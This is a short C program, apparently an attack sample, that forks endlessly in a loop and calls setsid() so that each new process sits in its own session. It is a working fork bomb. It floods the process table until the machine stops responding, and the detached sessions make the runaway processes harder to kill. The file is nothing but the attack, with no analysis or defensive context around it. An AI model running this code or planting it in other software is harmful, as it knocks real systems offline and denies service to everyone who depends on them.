// Forks without end, each process in a session of its own.
#include "attack.h"
int main(void) {
  for (;;) {
    fork();
    setsid();
  }
}
